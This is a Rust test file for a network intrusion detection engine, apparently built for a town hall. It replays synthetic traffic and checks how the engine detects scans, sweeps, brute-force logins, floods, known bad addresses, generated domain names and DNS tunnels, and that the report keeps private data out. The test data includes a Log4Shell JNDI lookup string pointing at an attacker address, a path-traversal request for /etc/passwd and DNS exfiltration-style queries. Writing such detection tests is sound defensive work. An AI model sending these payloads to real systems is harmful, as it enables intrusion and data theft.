//! The engine driven frame by frame with built traffic: each detector's
//! threshold, counts and grouping, false positives on ordinary traffic, and
//! the privacy promise.

#![allow(clippy::unwrap_used)] // a test: a panic is the failure report

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;

use vigie_core::{Category, Direction, Incident, Report, Severity};
use vigie_lists::Intel;
use vigie_sensor::decode::TcpFlags;
use vigie_sensor::engine::{Engine, Settings};
use vigie_sensor::synth::{FrameBuilder, app};

const SYN: u8 = TcpFlags::SYN;
const ACK: u8 = TcpFlags::ACK;
const PSH_ACK: u8 = TcpFlags::PSH | TcpFlags::ACK;
/// 2026-11-22T09:00:00Z.
const T0: i64 = 1_795_338_000 * 1_000_000_000;
const MS: i64 = 1_000_000;
const SEC: i64 = 1_000_000_000;

const ATTACKER: &str = "203.0.113.50";
const SERVER: &str = "192.168.1.10";
const WORKSTATION: &str = "192.168.1.23";

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn sock(s: &str, port: u16) -> SocketAddr {
    SocketAddr::new(ip(s), port)
}

/// An engine fed with frames built on the fly.
struct Lab {
    engine: Engine,
    frames: FrameBuilder,
    now: i64,
}

impl Lab {
    fn new() -> Self {
        Self::with(Settings::default())
    }

    fn with(settings: Settings) -> Self {
        Lab {
            engine: Engine::new(settings),
            frames: FrameBuilder::new(),
            now: T0,
        }
    }

    fn with_intel(lists: &[(&str, &str)]) -> Self {
        let mut builder = Intel::builder();
        for (label, text) in lists {
            builder.add_list(label, text);
        }
        Self::with(Settings {
            intel: Arc::new(builder.build()),
            ..Settings::default()
        })
    }

    fn advance(&mut self, step: i64) {
        self.now += step;
    }

    fn tcp(&mut self, src: SocketAddr, dst: SocketAddr, flags: u8, seq: u32, payload: &[u8]) {
        let frame = self.frames.tcp(src, dst, flags, seq, 1, payload);
        self.engine.process(self.now, 1, frame, frame.len() as u32);
        self.now += MS;
    }

    fn udp(&mut self, src: SocketAddr, dst: SocketAddr, payload: &[u8]) {
        let frame = self.frames.udp(src, dst, payload);
        self.engine.process(self.now, 1, frame, frame.len() as u32);
        self.now += MS;
    }

    fn ping(&mut self, src: &str, dst: &str) {
        let frame = self.frames.icmp_echo_request(ip(src), ip(dst), 7, 1);
        self.engine.process(self.now, 1, frame, frame.len() as u32);
        self.now += MS;
    }

    /// A client connection that completes and sends `request`.
    fn session(&mut self, client: SocketAddr, server: SocketAddr, request: &[u8]) {
        let seq = u32::from(client.port()) * 7919;
        self.tcp(client, server, SYN, seq, &[]);
        self.tcp(server, client, SYN | ACK, 99, &[]);
        self.tcp(client, server, ACK, seq + 1, &[]);
        self.tcp(client, server, PSH_ACK, seq + 1, request);
        self.tcp(
            server,
            client,
            PSH_ACK,
            100,
            b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
        );
    }

    fn finish(self) -> Report {
        let report = self.engine.finish();
        report.validate().unwrap();
        report
    }
}

fn only(report: &Report, category: Category) -> Vec<&Incident> {
    report
        .incidents
        .iter()
        .filter(|i| i.category == category)
        .collect()
}

fn single(report: &Report) -> &Incident {
    assert_eq!(report.incidents.len(), 1, "{:#?}", report.incidents);
    &report.incidents[0]
}

#[test]
fn a_scan_of_1000_ports_is_one_incident_of_1000_events() {
    let mut lab = Lab::new();
    for port in 1..=1000u16 {
        lab.tcp(sock(ATTACKER, 40000), sock(SERVER, port), SYN, 1, &[]);
        // A retransmission does not count twice.
        if port % 10 == 0 {
            lab.tcp(sock(ATTACKER, 40000), sock(SERVER, port), SYN, 1, &[]);
        }
    }
    let report = lab.finish();
    let scan = single(&report);
    assert_eq!(
        (scan.category, scan.rule.as_str(), scan.events),
        (Category::Scan, "scan.syn", 1000)
    );
    assert_eq!(scan.source, Some(ip(ATTACKER)));
    assert_eq!(scan.direction, Direction::Inbound);
    assert_eq!(report.daily.len(), 1);
    assert_eq!((report.daily[0].count, report.daily[0].outbound), (1, 0));
}

#[test]
fn below_the_threshold_is_no_scan() {
    let mut lab = Lab::new();
    for port in 1..=14u16 {
        lab.tcp(sock(ATTACKER, 40000), sock(SERVER, port), SYN, 1, &[]);
    }
    assert!(lab.finish().incidents.is_empty());
}

#[test]
fn stealth_and_udp_scans_have_their_own_rules() {
    let mut lab = Lab::new();
    for port in 1..=30u16 {
        lab.tcp(
            sock(ATTACKER, 50001),
            sock(SERVER, port),
            TcpFlags::FIN,
            1,
            &[],
        );
        lab.tcp(sock(ATTACKER, 50002), sock(SERVER, port), 0, 1, &[]);
        lab.tcp(
            sock(ATTACKER, 50003),
            sock(SERVER, port),
            TcpFlags::FIN | TcpFlags::PSH | TcpFlags::URG,
            1,
            &[],
        );
        lab.udp(sock(ATTACKER, 50004), sock(SERVER, port + 1000), b"");
    }
    let report = lab.finish();
    let mut rules: Vec<(&str, u64)> = report
        .incidents
        .iter()
        .map(|i| (i.rule.as_str(), i.events))
        .collect();
    rules.sort();
    assert_eq!(
        rules,
        [
            ("scan.fin", 30),
            ("scan.null", 30),
            ("scan.udp", 30),
            ("scan.xmas", 30)
        ]
    );
}

#[test]
fn scans_of_several_hosts_by_one_source_are_one_attack() {
    let mut lab = Lab::new();
    for host in ["192.168.1.10", "192.168.1.11", "192.168.1.12"] {
        for port in 1..=100u16 {
            lab.tcp(sock(ATTACKER, 40000), sock(host, port), SYN, 1, &[]);
        }
    }
    let scan = single(&lab.finish()).clone();
    assert_eq!((scan.rule.as_str(), scan.events), ("scan.syn", 300));
}

#[test]
fn a_ping_sweep_counts_hosts() {
    let mut lab = Lab::new();
    for host in 1..=254 {
        lab.ping(ATTACKER, &format!("192.168.1.{host}"));
    }
    let report = lab.finish();
    let sweep = single(&report);
    assert_eq!(
        (sweep.category, sweep.rule.as_str(), sweep.events),
        (Category::Sweep, "sweep.icmp", 254)
    );
}

#[test]
fn a_port_sweep_counts_hosts_on_one_port() {
    let mut lab = Lab::new();
    for host in 1..=40 {
        lab.tcp(
            sock(ATTACKER, 40000),
            sock(&format!("192.168.1.{host}"), 445),
            SYN,
            1,
            &[],
        );
    }
    let sweep = single(&lab.finish()).clone();
    assert_eq!(
        (sweep.rule.as_str(), sweep.events, sweep.target_port),
        ("sweep.tcp", 40, Some(445))
    );
}

#[test]
fn ssh_brute_force_counts_connections_that_carried_data() {
    let mut lab = Lab::new();
    for attempt in 0..60u16 {
        lab.session(
            sock(ATTACKER, 30000 + attempt),
            sock(SERVER, 22),
            b"SSH-2.0-libssh_0.9.6\r\n",
        );
        // More data on the same connection is still one attempt.
        lab.tcp(
            sock(ATTACKER, 30000 + attempt),
            sock(SERVER, 22),
            PSH_ACK,
            5,
            &[0u8; 200],
        );
    }
    let report = lab.finish();
    let brute = single(&report);
    assert_eq!(
        (
            brute.category,
            brute.rule.as_str(),
            brute.events,
            brute.service.as_deref(),
            brute.target_port
        ),
        (
            Category::BruteForce,
            "brute_force.ssh",
            60,
            Some("ssh"),
            Some(22)
        )
    );
    assert_eq!(brute.severity, Severity::High);
}

#[test]
fn one_legitimate_login_is_not_a_brute_force() {
    let mut lab = Lab::new();
    for attempt in 0..3u16 {
        lab.session(
            sock(ATTACKER, 30000 + attempt),
            sock(SERVER, 22),
            b"SSH-2.0-OpenSSH_9.2\r\n",
        );
    }
    assert!(lab.finish().incidents.is_empty());
}

#[test]
fn ftp_counts_each_password_on_one_connection() {
    let mut lab = Lab::new();
    let (client, server) = (sock(ATTACKER, 33000), sock(SERVER, 21));
    lab.session(client, server, b"USER admin\r\n");
    for i in 0..25 {
        lab.tcp(
            client,
            server,
            PSH_ACK,
            100 + i,
            format!("PASS secret{i}\r\n").as_bytes(),
        );
        lab.tcp(client, server, PSH_ACK, 200 + i, b"USER admin\r\n");
    }
    let brute = single(&lab.finish()).clone();
    assert_eq!((brute.rule.as_str(), brute.events), ("brute_force.ftp", 25));
}

#[test]
fn web_login_posts_are_a_brute_force() {
    let mut lab = Lab::new();
    for i in 0..30u16 {
        let body = format!("log=admin&pwd=test{i}");
        let request = app::http_request(
            "POST",
            "/wp-login.php",
            &[
                ("Host", "mairie.example"),
                ("Content-Type", "application/x-www-form-urlencoded"),
            ],
            body.as_bytes(),
        );
        lab.session(sock(ATTACKER, 20000 + i), sock(SERVER, 80), &request);
    }
    let brute = single(&lab.finish()).clone();
    assert_eq!(
        (brute.rule.as_str(), brute.events, brute.service.as_deref()),
        ("brute_force.web", 30, Some("http"))
    );
}

#[test]
fn web_exploits_are_one_incident_per_signature_and_source() {
    let mut lab = Lab::new();
    for i in 0..3u16 {
        let log4shell = app::http_request(
            "GET",
            "/",
            &[
                ("Host", "mairie"),
                ("X-Api-Version", "${jndi:ldap://203.0.113.50/a}"),
            ],
            b"",
        );
        lab.session(sock(ATTACKER, 21000 + i), sock(SERVER, 80), &log4shell);
    }
    let traversal = app::http_request(
        "GET",
        "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
        &[("Host", "mairie")],
        b"",
    );
    lab.session(sock(ATTACKER, 21100), sock(SERVER, 80), &traversal);
    let report = lab.finish();
    let web = only(&report, Category::WebExploit);
    let log4shell: Vec<_> = web
        .iter()
        .filter(|i| i.rule.contains("log4shell"))
        .collect();
    assert_eq!(log4shell.len(), 1, "{web:#?}");
    assert_eq!(log4shell[0].events, 3);
    assert_eq!(log4shell[0].severity, Severity::Critical);
    assert!(web.iter().any(|i| i.rule.contains("traversal")), "{web:#?}");
    assert_eq!(
        report.incidents.len(),
        web.len(),
        "nothing but web exploits: {:#?}",
        report.incidents
    );
}

#[test]
fn a_syn_flood_from_one_source_names_it() {
    let mut lab = Lab::new();
    for i in 0..5000u32 {
        lab.tcp(
            sock(ATTACKER, 1024 + (i % 60000) as u16),
            sock(SERVER, 80),
            SYN,
            i,
            &[],
        );
        lab.advance(-MS + SEC / 2500);
    }
    let report = lab.finish();
    let flood = only(&report, Category::Flood);
    assert_eq!(flood.len(), 1, "{:#?}", report.incidents);
    assert_eq!(
        (
            flood[0].rule.as_str(),
            flood[0].events,
            flood[0].target_port
        ),
        ("flood.syn", 5000, Some(80))
    );
    assert_eq!(flood[0].source, Some(ip(ATTACKER)));
}

#[test]
fn a_spoofed_flood_names_no_source() {
    let mut lab = Lab::new();
    for i in 0..5000u32 {
        let source = format!("198.51.{}.{}", i / 250, i % 250 + 1);
        lab.tcp(sock(&source, 4000), sock(SERVER, 80), SYN, i, &[]);
        lab.advance(-MS + SEC / 2500);
    }
    let report = lab.finish();
    let flood = only(&report, Category::Flood);
    assert_eq!(flood.len(), 1, "{:#?}", report.incidents);
    assert_eq!((flood[0].events, flood[0].source), (5000, None));
}

#[test]
fn a_stream_of_completed_connections_is_no_flood() {
    // 500 connections a second from one client, each handshake completed
    // (issue 16: only half-open SYN count below the large site's bar).
    let mut lab = Lab::new();
    for i in 0..3000u32 {
        let client = sock(ATTACKER, 1024 + (i % 60000) as u16);
        lab.tcp(client, sock(SERVER, 80), SYN, i * 1000, &[]);
        lab.tcp(client, sock(SERVER, 80), ACK, i * 1000 + 1, &[]);
        lab.advance(-2 * MS + SEC / 500);
    }
    assert!(only(&lab.finish(), Category::Flood).is_empty());
}

#[test]
fn listed_addresses_inbound_and_outbound() {
    let mut lab = Lab::with_intel(&[
        ("known_attacker", ATTACKER),
        ("botnet_c2", "198.51.100.66\n"),
    ]);
    // Two connections from a known attacker: one incident, two events.
    lab.session(
        sock(ATTACKER, 41000),
        sock(SERVER, 80),
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
    );
    lab.session(sock(ATTACKER, 41001), sock(SERVER, 443), b"\x16\x03\x01");
    // A workstation contacting a command centre.
    lab.session(
        sock(WORKSTATION, 52000),
        sock("198.51.100.66", 443),
        b"\x16\x03\x01",
    );
    let report = lab.finish();
    let hits = only(&report, Category::Reputation);
    assert_eq!(hits.len(), 2, "{hits:#?}");
    let inbound = hits
        .iter()
        .find(|i| i.direction == Direction::Inbound)
        .unwrap();
    assert_eq!(
        (inbound.label.as_deref(), inbound.events, inbound.severity),
        (Some("known_attacker"), 2, Severity::Medium)
    );
    let outbound = hits
        .iter()
        .find(|i| i.direction == Direction::Outbound)
        .unwrap();
    assert_eq!(
        (outbound.label.as_deref(), outbound.severity),
        (Some("botnet_c2"), Severity::Critical)
    );
    assert_eq!(outbound.source, Some(ip("198.51.100.66")));
    assert!(
        outbound
            .internal_host
            .as_deref()
            .is_some_and(|h| h.starts_with("h:"))
    );
    let day = &report.daily[0];
    assert_eq!(
        (day.category, day.count, day.outbound),
        (Category::Reputation, 2, 1)
    );
}

#[test]
fn listed_names_in_dns_sni_and_host() {
    let mut lab = Lab::with_intel(&[("malware_c2", "evil-c2.example\n")]);
    let query = app::dns_query(7, "a1.EVIL-C2.example", 1);
    lab.udp(sock(WORKSTATION, 53000), sock("192.168.1.1", 53), &query);
    let hello = app::tls_client_hello(Some("cdn.evil-c2.example"));
    lab.session(sock(WORKSTATION, 53001), sock("198.51.100.7", 443), &hello);
    let get = app::http_request("GET", "/gate.php", &[("Host", "evil-c2.example:8080")], b"");
    lab.session(sock(WORKSTATION, 53002), sock("198.51.100.8", 8080), &get);
    // Not listed: a name that only ends the same way.
    let other = app::dns_query(8, "notevil-c2.example", 1);
    lab.udp(sock(WORKSTATION, 53003), sock("192.168.1.1", 53), &other);
    let report = lab.finish();
    let mut rules: Vec<(&str, Option<&str>)> = report
        .incidents
        .iter()
        .map(|i| (i.rule.as_str(), i.indicator.as_deref()))
        .collect();
    rules.sort();
    assert_eq!(
        rules,
        [
            ("reputation.dns", Some("evil-c2.example")),
            ("reputation.http_host", Some("evil-c2.example")),
            ("reputation.tls_sni", Some("evil-c2.example")),
        ]
    );
    assert!(
        report
            .incidents
            .iter()
            .all(|i| i.direction == Direction::Outbound && i.severity == Severity::Critical)
    );
    let dns = report
        .incidents
        .iter()
        .find(|i| i.rule == "reputation.dns")
        .unwrap();
    assert_eq!(dns.source, None, "the town hall's resolver is no attacker");
}

#[test]
fn generated_names_and_tunnels() {
    let mut lab = Lab::new();
    for (i, name) in [
        "xjwqkzpqvbltr",
        "qwrtzpsdfghkl",
        "mnbvcxzlkjhgf",
        "pqzrtxwvbnmks",
        "zxcvbnmqwrtps",
        "lkjhgfdsqwrtz",
    ]
    .iter()
    .enumerate()
    {
        let query = app::dns_query(i as u16, &format!("{name}.com"), 1);
        lab.udp(
            sock(WORKSTATION, 5000 + i as u16),
            sock("192.168.1.1", 53),
            &query,
        );
    }
    for i in 0..25u16 {
        let label = format!(
            "{:0>60}",
            format!("{i}mzxw6ytboi4dqmjzgmytcnrzgq3tsobqgeytcnrz")
        );
        let query = app::dns_query(100 + i, &format!("{label}.t.exfil.example"), 16);
        lab.udp(
            sock("192.168.1.24", 6000 + i),
            sock("192.0.2.53", 53),
            &query,
        );
    }
    // Ordinary browsing from a third machine.
    for (i, name) in [
        "www.service-public.fr",
        "www.impots.gouv.fr",
        "fr.wikipedia.org",
        "www.leboncoin.fr",
        "mail.google.com",
        "login.microsoftonline.com",
    ]
    .iter()
    .enumerate()
    {
        let query = app::dns_query(200 + i as u16, name, 1);
        lab.udp(
            sock("192.168.1.25", 7000 + i as u16),
            sock("192.168.1.1", 53),
            &query,
        );
    }
    let report = lab.finish();
    let mut found: Vec<(&str, u64)> = report
        .incidents
        .iter()
        .map(|i| (i.rule.as_str(), i.events))
        .collect();
    found.sort();
    assert_eq!(found, [("dns.dga", 6), ("dns.tunnel", 25)]);
    let hosts: std::collections::HashSet<_> = report
        .incidents
        .iter()
        .map(|i| i.internal_host.clone())
        .collect();
    assert_eq!(hosts.len(), 2, "two machines told apart");
    let json = serde_json::to_string(&report).unwrap();
    assert!(
        !json.contains("exfil") && !json.contains("xjwqkzpqvbltr"),
        "names never leave the box: {json}"
    );
}

#[test]
fn ordinary_traffic_yields_no_incident() {
    let mut out = Vec::new();
    let mix = vigie_sensor::synth::traffic::Mix {
        packets: 60_000,
        start: T0,
        packets_per_second: 200,
        seed: 3,
        attacks: false,
    };
    vigie_sensor::synth::traffic::write_capture(&mut out, &mix).unwrap();
    let mut reader = vigie_sensor::capture::CaptureReader::new(&out[..]).unwrap();
    let mut engine = Engine::new(Settings::default());
    engine.read_capture(&mut reader).unwrap();
    let report = engine.finish();
    assert!(report.packets >= 60_000);
    assert_eq!(report.malformed, 0);
    assert!(report.incidents.is_empty(), "{:#?}", report.incidents);
}

#[test]
fn the_generated_attacks_are_all_found_with_their_counts() {
    use vigie_sensor::synth::traffic::{Attacks, Mix, write_capture};
    let mut out = Vec::new();
    let mix = Mix {
        packets: 40_000,
        start: T0,
        packets_per_second: 500,
        seed: 9,
        attacks: true,
    };
    write_capture(&mut out, &mix).unwrap();
    let mut reader = vigie_sensor::capture::CaptureReader::new(&out[..]).unwrap();
    let mut engine = Engine::new(Settings::default());
    engine.read_capture(&mut reader).unwrap();
    let report = engine.finish();
    let find = |rule: &str| {
        report
            .incidents
            .iter()
            .filter(|i| i.rule == rule)
            .collect::<Vec<_>>()
    };
    let scan = find("scan.syn");
    assert_eq!(
        (scan.len(), scan[0].events, scan[0].source),
        (
            1,
            u64::from(Attacks::SCANNED_PORTS),
            Some(IpAddr::V4(Attacks::SCANNER))
        )
    );
    let ssh = find("brute_force.ssh");
    assert_eq!(
        (ssh.len(), ssh[0].events),
        (1, u64::from(Attacks::SSH_ATTEMPTS))
    );
    let sweep = find("sweep.icmp");
    assert_eq!(
        (sweep.len(), sweep[0].events),
        (1, u64::from(Attacks::SWEPT_HOSTS))
    );
    let web = only(&report, Category::WebExploit);
    assert!(
        web.iter()
            .all(|i| i.source == Some(IpAddr::V4(Attacks::WEB_ATTACKER)) && i.events == 1),
        "{web:#?}"
    );
    let mut rules: Vec<&str> = web.iter().map(|i| i.rule.as_str()).collect();
    rules.sort();
    // Four requests, four attacks: a request matching several signatures
    // (Shellshock runs a command) counts once, for the most severe.
    assert_eq!(
        rules,
        [
            "web.log4shell",
            "web.path_traversal",
            "web.secret_file",
            "web.shellshock"
        ]
    );
    let categories: std::collections::BTreeSet<_> =
        report.incidents.iter().map(|i| i.category).collect();
    assert_eq!(categories.len(), 4, "{:#?}", report.incidents);
}

#[test]
fn nothing_of_the_commune_leaves_in_the_report() {
    const MARKER: &str = "VIGIE-PRIVATE-7f3a";
    let mut lab = Lab::with_intel(&[("botnet_c2", "198.51.100.66\n")]);
    let request = app::http_request(
        "POST",
        &format!("/wp-login.php?user={MARKER}"),
        &[
            ("Host", "intranet.mairie.example"),
            ("Cookie", MARKER),
            ("Content-Type", "application/x-www-form-urlencoded"),
        ],
        format!("pwd={MARKER}").as_bytes(),
    );
    for i in 0..20u16 {
        lab.session(sock(ATTACKER, 10000 + i), sock(SERVER, 80), &request);
        lab.session(
            sock(WORKSTATION, 11000 + i),
            sock("198.51.100.66", 80),
            &request,
        );
        let query = app::dns_query(i, &format!("{MARKER}.intranet.mairie.example"), 1);
        lab.udp(
            sock(WORKSTATION, 12000 + i),
            sock("192.168.1.1", 53),
            &query,
        );
    }
    for port in 1..=100 {
        lab.tcp(sock(WORKSTATION, 9999), sock(SERVER, port), SYN, 1, &[]);
    }
    let report = lab.finish();
    assert!(!report.incidents.is_empty());
    let json = serde_json::to_string(&report).unwrap().to_lowercase();
    for secret in [
        MARKER.to_lowercase().as_str(),
        "192.168.",
        "wp-login",
        "intranet",
        "mairie.example",
        "pwd=",
    ] {
        assert!(!json.contains(secret), "{secret:?} leaked: {json}");
    }
}

#[test]
fn malformed_frames_are_counted_and_skipped() {
    let mut engine = Engine::new(Settings::default());
    engine.process(T0, 1, &[0xff; 10], 10);
    engine.process(
        T0,
        1,
        b"\x00\x01\x02\x03\x04\x05\x00\x01\x02\x03\x04\x05\x08\x00\x45\x00",
        16,
    );
    engine.process(T0, 9999, &[0; 60], 60);
    let mut frames = FrameBuilder::new();
    let good = frames
        .tcp(sock(ATTACKER, 1), sock(SERVER, 2), SYN, 1, 1, &[])
        .to_vec();
    engine.process(T0 + SEC, 1, &good, good.len() as u32);
    let stats = *engine.stats();
    assert_eq!(
        (stats.packets, stats.malformed, stats.unsupported_link),
        (4, 2, 1)
    );
    let report = engine.finish();
    assert_eq!(report.malformed, 2);
}

#[test]
fn days_are_paris_days() {
    // 23:30 and 00:30 Paris time in winter are 22:30 and 23:30 UTC.
    let mut report_days = Vec::new();
    for at in ["2026-01-15T22:30:00Z", "2026-01-15T23:30:00Z"] {
        let start = at
            .parse::<chrono::DateTime<chrono::Utc>>()
            .unwrap()
            .timestamp_nanos_opt()
            .unwrap();
        let mut lab = Lab::new();
        lab.now = start;
        for port in 1..=20u16 {
            lab.tcp(sock(ATTACKER, 40000), sock(SERVER, port), SYN, 1, &[]);
        }
        report_days.push(lab.finish().daily[0].day.to_string());
    }
    assert_eq!(report_days, ["2026-01-15", "2026-01-16"]);
}

#[test]
fn a_fast_download_is_no_flood_but_a_udp_blast_is() {
    let mut lab = Lab::new();
    // A workstation opens a QUIC connection, then receives 20,000 datagrams
    // in two seconds: a download, not an attack.
    let (workstation, cdn) = (sock(WORKSTATION, 50000), sock("198.51.100.20", 443));
    lab.udp(workstation, cdn, &[0xc0; 1200]);
    for _ in 0..20_000 {
        lab.udp(cdn, workstation, &[0x40; 1200]);
        lab.advance(-MS + SEC / 10_000);
    }
    assert!(lab.finish().incidents.is_empty());

    // The same rate sent unasked to the town hall's server is a flood.
    let mut lab = Lab::new();
    for i in 0..20_000u32 {
        lab.udp(
            sock(ATTACKER, 1024 + (i % 50_000) as u16),
            sock(SERVER, 53),
            &[0; 64],
        );
        lab.advance(-MS + SEC / 10_000);
    }
    let report = lab.finish();
    let flood = only(&report, Category::Flood);
    assert_eq!(flood.len(), 1, "{:#?}", report.incidents);
    assert_eq!(
        (flood[0].rule.as_str(), flood[0].events),
        ("flood.udp", 20_000)
    );
}

/// One SSH connection as hydra and OpenSSH 9 make it: set-up, then `tries`
/// password requests each answered by a failure, then `ending` (success
/// or disconnect) if any.
fn ssh_connection(lab: &mut Lab, client: SocketAddr, tries: usize, ending: Option<usize>) {
    let server = sock(SERVER, 22);
    lab.session(client, server, b"SSH-2.0-libssh_0.9.6\r\n");
    for (from_client, size) in [
        (true, 904),
        (false, 1088),
        (true, 48),
        (false, 524),
        (true, 16),
        (true, 44),
        (false, 44),
        (true, 68),
        (false, 44),
    ] {
        let payload = vec![0x5a; size];
        if from_client {
            lab.tcp(client, server, PSH_ACK, 9, &payload)
        } else {
            lab.tcp(server, client, PSH_ACK, 9, &payload)
        }
    }
    for try_number in 0..tries {
        lab.tcp(client, server, PSH_ACK, 9, &[0x33; 84]);
        let last = try_number + 1 == tries;
        match (last, ending) {
            (true, Some(size)) => lab.tcp(server, client, PSH_ACK, 9, &vec![0x77; size]),
            _ => lab.tcp(server, client, PSH_ACK, 9, &[0x44; 44]),
        }
    }
}

#[test]
fn ssh_tries_on_one_connection_are_counted_from_the_failure_replies() {
    let mut lab = Lab::new();
    // Three connections of six tries cut by "too many failures", one that
    // ends with the right password on its fourth try, one with two failures.
    for port in 0..3 {
        ssh_connection(&mut lab, sock(ATTACKER, 31000 + port), 6, Some(76));
    }
    ssh_connection(&mut lab, sock(ATTACKER, 31003), 4, Some(28));
    ssh_connection(&mut lab, sock(ATTACKER, 31004), 2, None);
    let report = lab.finish();
    let brute = single(&report);
    assert_eq!(
        (brute.rule.as_str(), brute.events),
        ("brute_force.ssh", 18 + 4 + 2)
    );
}

#[test]
fn a_successful_ssh_login_with_a_long_session_is_one_try() {
    let mut lab = Lab::new();
    for port in 0..3 {
        let client = sock(ATTACKER, 32000 + port);
        ssh_connection(&mut lab, client, 1, Some(28));
        // The session: keystrokes and echoes, some the size of a failure.
        for _ in 0..200 {
            lab.tcp(client, sock(SERVER, 22), PSH_ACK, 9, &[1; 36]);
            lab.tcp(sock(SERVER, 22), client, PSH_ACK, 9, &[2; 36]);
            lab.tcp(sock(SERVER, 22), client, PSH_ACK, 9, &[2; 44]);
        }
    }
    assert!(lab.finish().incidents.is_empty());
}

#[test]
fn regression_fuzz_capture_whose_time_goes_backwards() {
    // Found by the engine_capture fuzz target: an incident began after its
    // last event, and the report failed validation.
    let bytes = include_bytes!("../data/fuzz-time-goes-backwards.pcap");
    let mut engine = Engine::new(Settings::default());
    if let Ok(mut reader) = vigie_sensor::capture::CaptureReader::new(&bytes[..]) {
        let _ = engine.read_capture(&mut reader);
    }
    let report = engine.finish();
    assert!(!report.incidents.is_empty());
    report.validate().unwrap();
}

#[test]
fn a_planned_day_gives_one_incident_per_planned_attack() {
    use vigie_sensor::synth::day::{DEMO_C2, DayPlan, write_day};
    let plan = DayPlan {
        start: T0 - 9 * 3600 * SEC,
        span_secs: 0,
        sessions: 200,
        scans: 7,
        brute_forces: 3,
        web_attacks: 5,
        sweeps: 2,
        c2_contacts: 1,
        seed: 77,
    };
    let mut out = Vec::new();
    write_day(&mut out, &plan).unwrap();
    let mut reader = vigie_sensor::capture::CaptureReader::new(&out[..]).unwrap();
    let mut builder = Intel::builder();
    builder.add_list("botnet_c2", &DEMO_C2.to_string());
    let mut engine = Engine::new(Settings {
        intel: Arc::new(builder.build()),
        ..Settings::default()
    });
    engine.read_capture(&mut reader).unwrap();
    let report = engine.finish();
    let count = |category| {
        report
            .incidents
            .iter()
            .filter(|i| i.category == category)
            .count()
    };
    assert_eq!(
        (
            count(Category::Scan),
            count(Category::BruteForce),
            count(Category::WebExploit),
            count(Category::Sweep),
            count(Category::Reputation)
        ),
        (7, 3, 5, 2, 1),
        "{:#?}",
        report.incidents
    );
    assert_eq!(report.daily.iter().map(|d| d.outbound).sum::<u64>(), 1);
}

#[test]
fn batches_of_a_live_run_add_up_to_the_whole_run() {
    use vigie_sensor::synth::traffic::{Mix, write_capture};
    let mut capture = Vec::new();
    let mix = Mix {
        packets: 60_000,
        start: T0,
        packets_per_second: 20,
        seed: 21,
        attacks: true,
    };
    write_capture(&mut capture, &mix).unwrap();
    let key = [9; 32];
    let settings = || Settings {
        host_key: key,
        ..Settings::default()
    };
    let mut whole = Engine::new(settings());
    whole
        .read_capture(&mut vigie_sensor::capture::CaptureReader::new(&capture[..]).unwrap())
        .unwrap();
    let whole = whole.finish();
    assert!(whole.incidents.len() >= 7);

    // The same traffic, drained every 2,000 packets as a live sensor would
    // every minute, then finished.
    let mut live = Engine::new(settings());
    let mut reader = vigie_sensor::capture::CaptureReader::new(&capture[..]).unwrap();
    let mut batches = Vec::new();
    let mut seen = 0u64;
    while let Some(frame) = reader.next_frame().unwrap() {
        live.process(frame.ts_nanos, frame.linktype, frame.data, frame.orig_len);
        seen += 1;
        if seen.is_multiple_of(2_000) {
            batches.push(live.drain());
        }
    }
    batches.push(live.finish());
    assert!(batches.len() > 20);
    for batch in &batches {
        batch.validate().unwrap();
    }
    let packets: u64 = batches.iter().map(|b| b.packets).sum();
    assert_eq!(packets, whole.packets);
    assert_eq!(batches.iter().map(|b| b.bytes).sum::<u64>(), whole.bytes);
    let mut incidents: Vec<_> = batches.iter().flat_map(|b| b.incidents.clone()).collect();
    let mut expected = whole.incidents.clone();
    let key_of = |i: &vigie_core::Incident| (i.first_seen, i.rule.clone(), i.source);
    incidents.sort_by_key(key_of);
    expected.sort_by_key(key_of);
    assert_eq!(
        incidents, expected,
        "every incident once, with the same counts"
    );
    // Incidents reach a batch only once closed: several batches carry none.
    assert!(batches.iter().filter(|b| b.incidents.is_empty()).count() > 5);
    let first = batches.iter().find(|b| b.packets > 0).unwrap();
    assert!(first.first_seen.is_some() && first.first_seen <= first.last_seen);
}
